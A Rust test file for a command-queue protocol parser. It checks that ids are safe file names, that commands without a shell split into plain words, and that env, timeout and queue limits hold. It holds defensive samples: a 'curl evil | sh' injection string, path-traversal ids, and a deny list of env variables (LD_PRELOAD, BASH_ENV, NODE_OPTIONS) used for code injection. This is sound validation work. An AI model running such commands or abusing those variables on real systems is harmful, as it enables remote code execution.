//! Rows 33 to 41 of the bad inputs as far as a file shows them, and the samples of the protocol's document.

use std::time::Duration;

use mizzen_fsx::SafeDir;
use proptest::prelude::*;
use serde_json::{Value, json};

use super::{
    Command, CommandId, Commands, Exec, Order, Priority, QUEUE, Signal, read_commands,
    write_commands,
};

const SAMPLE: &str = r#"{
  "commands": [
    { "id": "cmd-123", "timestamp": "2024-01-20T10:31:00Z", "type": "exec", "command": "npm test",
      "args": ["--coverage"], "env": { "NODE_ENV": "test" }, "working_dir": "/workspace",
      "timeout_seconds": 300, "priority": "normal" },
    { "id": "cmd-124", "timestamp": "2024-01-20T10:32:00Z", "type": "signal", "signal": "reload_config" }
  ],
  "processed": ["cmd-120", "cmd-121", "cmd-122"]
}"#;

fn parse(commands: &Value) -> Commands {
    commands.to_string().parse().unwrap()
}

/// What becomes of an entry with these fields beside its id.
fn order(fields: Value) -> Result<Order, String> {
    let mut entry = json!({ "id": "a" });
    let (Value::Object(entry_fields), Value::Object(fields)) = (&mut entry, fields) else {
        panic!("an object");
    };
    entry_fields.extend(fields);
    let mut queue = parse(&json!({ "commands": [entry] }));
    queue.queued.remove(0).command.map(|command| command.order)
}

fn exec(fields: Value) -> Result<Exec, String> {
    let mut entry = json!({ "type": "exec", "command": "true" });
    let (Value::Object(entry_fields), Value::Object(fields)) = (&mut entry, fields) else {
        panic!("an object");
    };
    entry_fields.extend(fields);
    match order(entry)? {
        Order::Exec(exec) => Ok(exec),
        Order::Signal(signal) => panic!("{signal:?}"),
    }
}

#[test]
fn the_protocols_own_sample_is_read_whole_and_written_as_it_was() {
    let queue: Commands = SAMPLE.parse().unwrap();
    let commands: Vec<Command> = queue
        .queued
        .into_iter()
        .map(|queued| queued.command.unwrap())
        .collect();
    let Order::Exec(first) = &commands[0].order else {
        panic!("{commands:?}");
    };
    assert_eq!(first.argv().unwrap(), ["npm", "test", "--coverage"]);
    assert_eq!(first.env["NODE_ENV"], "test");
    assert_eq!(first.timeout(), Duration::from_secs(300));
    assert_eq!(commands[0].priority, Some(Priority::Normal));
    assert_eq!(commands[1].order, Order::Signal(Signal::ReloadConfig));

    let dir = tempfile::tempdir().unwrap();
    write_commands(dir.path(), &commands, &queue.processed, None).unwrap();
    let written = std::fs::read(dir.path().join("commands.json")).unwrap();
    let written: Value = serde_json::from_slice(&written).unwrap();
    assert_eq!(written, serde_json::from_str::<Value>(SAMPLE).unwrap());
}

#[test]
fn what_is_written_is_read_back_with_unknown_fields() {
    let orders = [
        Order::Exec(Exec {
            command: "make".to_owned(),
            args: vec!["a b".to_owned()],
            shell: true,
            working_dir: Some("/workspace/ui".to_owned()),
            timeout_seconds: Some(9),
            max_output: Some(1000),
            ..Exec::default()
        }),
        Order::Signal(Signal::Cancel {
            target: CommandId::new("other").unwrap(),
        }),
        Order::Signal(Signal::Shutdown {
            deadline_s: Some(30),
        }),
        Order::Signal(Signal::ReportNow),
    ];
    let commands: Vec<Command> = (1..)
        .zip(orders)
        .map(|(seq, order)| {
            let id = CommandId::new(&format!("c{seq}")).unwrap();
            let mut command = Command::new(id, order);
            command.seq = Some(seq);
            command.extra.insert("later".to_owned(), json!([seq]));
            command
        })
        .collect();
    let dir = tempfile::tempdir().unwrap();
    write_commands(dir.path(), &commands, &[], None).unwrap();
    let read = read_commands(&SafeDir::open(dir.path()).unwrap(), None);
    let read: Vec<Command> = read
        .good()
        .unwrap()
        .queued
        .into_iter()
        .map(|queued| queued.command.unwrap())
        .collect();
    assert_eq!(read, commands);
}

#[test]
fn row_33_an_id_is_a_safe_name_of_a_file() {
    for id in ["a", "cmd-123", "A.b_c-9", &"x".repeat(64)] {
        assert!(CommandId::new(id).is_some(), "{id}");
    }
    for id in [
        "",
        ".",
        "../x",
        "-rf",
        "a/b",
        "a b",
        "é",
        "a\0",
        &"x".repeat(65),
    ] {
        assert!(CommandId::new(id).is_none(), "{id}");
        let queue =
            parse(&json!({ "commands": [{ "id": id, "type": "exec", "command": "true" }] }));
        assert_eq!(queue, Commands::default(), "{id}");
    }
}

#[test]
fn row_34_without_a_shell_a_command_is_words_and_nothing_else() {
    let evil = exec(json!({ "command": "npm test; curl evil | sh", "args": ["$(x)"] })).unwrap();
    let words = ["npm", "test;", "curl", "evil", "|", "sh", "$(x)"];
    assert_eq!(evil.argv().unwrap(), words);
    let script = exec(json!({ "command": "a; b", "shell": true, "args": ["one"] })).unwrap();
    assert_eq!(script.argv().unwrap(), ["sh", "-c", "a; b", "sh", "one"]);
    for command in ["", "  ", "'open"] {
        exec(json!({ "command": command })).unwrap_err();
    }
    let zero = exec(json!({ "args": ["a\0b"] })).unwrap_err();
    assert_eq!(zero, "`args` holds a zero byte");
}

#[test]
fn row_35_no_variable_puts_other_programs_into_the_one_that_is_run() {
    for name in [
        "LD_PRELOAD",
        "BASH_ENV",
        "NODE_OPTIONS",
        "PATH",
        "GIT_SSH_COMMAND",
    ] {
        let refused = exec(json!({ "env": { name: "x" } })).unwrap_err();
        assert_eq!(refused, format!("`env` may not set `{name}`"));
    }
    for name in ["A=B", "", "1A", "A B", &"A".repeat(65)] {
        exec(json!({ "env": { name: "x" } })).unwrap_err();
    }
    let many: serde_json::Map<_, _> = (0..65).map(|n| (format!("A{n}"), json!("x"))).collect();
    exec(json!({ "env": many })).unwrap_err();
    assert_eq!(exec(json!({ "env": { "A": "x" } })).unwrap().env["A"], "x");
}

#[test]
fn row_36_a_working_directory_is_absolute() {
    for dir in [json!("src"), json!("../"), json!(7)] {
        exec(json!({ "working_dir": dir })).unwrap_err();
    }
    assert_eq!(
        exec(json!({ "working_dir": null })).unwrap().working_dir,
        None
    );
}

#[test]
fn row_37_a_time_out_is_a_whole_number_of_at_least_one() {
    for seconds in [json!(0), json!(-1), json!(1.5), json!("9")] {
        exec(json!({ "timeout_seconds": seconds })).unwrap_err();
    }
    let longest = exec(json!({ "timeout_seconds": 1_000_000_000u64 })).unwrap();
    assert_eq!(longest.timeout(), super::TIMEOUT_MAX);
    assert_eq!(exec(json!({})).unwrap().timeout(), super::TIMEOUT_DEFAULT);
}

#[test]
fn row_40_what_is_not_supported_is_told_and_the_others_go_on() {
    let queue = parse(&json!({ "commands": [
        { "id": "a", "type": "eval", "command": "1" },
        { "id": "b", "type": "signal", "signal": "dance" },
        { "id": "c" },
        7,
        { "id": "d", "type": "signal", "signal": "report_now" },
    ]}));
    let said: Vec<_> = queue
        .queued
        .iter()
        .map(|queued| queued.command.as_ref().err().map(String::as_str))
        .collect();
    assert_eq!(
        said,
        [
            Some("unsupported: type `eval`"),
            Some("unsupported: signal `dance`"),
            Some("it has no `type`"),
            None
        ]
    );
    order(json!({ "type": "signal", "signal": "cancel", "target": "../x" })).unwrap_err();
}

#[test]
fn row_41_no_more_than_a_hundred_are_read() {
    let entry = |n: usize| json!({ "id": format!("c{n}"), "type": "exec", "command": "true" });
    let all: Vec<Value> = (0..500).map(entry).collect();
    assert_eq!(parse(&json!({ "commands": all })).queued.len(), QUEUE);
}

#[test]
fn the_order_is_by_priority_and_then_by_number() {
    let turn = |priority: Option<&str>, seq| {
        let mut command = Command::new(
            CommandId::new("a").unwrap(),
            Order::Signal(Signal::ReportNow),
        );
        command.priority = priority.map(|word| Priority::from(word.to_owned()));
        command.seq = Some(seq);
        command.turn()
    };
    assert!(turn(Some("high"), 9) < turn(None, 1));
    assert!(turn(Some("normal"), 1) < turn(None, 2));
    assert!(turn(Some("odd"), 3) < turn(Some("low"), 1));
}

proptest! {
    #[test]
    fn whatever_a_queue_holds_it_is_read_or_refused_and_never_more_than_it_may_be(text in ".{0,400}") {
        if let Ok(queue) = text.parse::<Commands>() {
            prop_assert!(queue.queued.len() <= QUEUE);
        }
    }
}
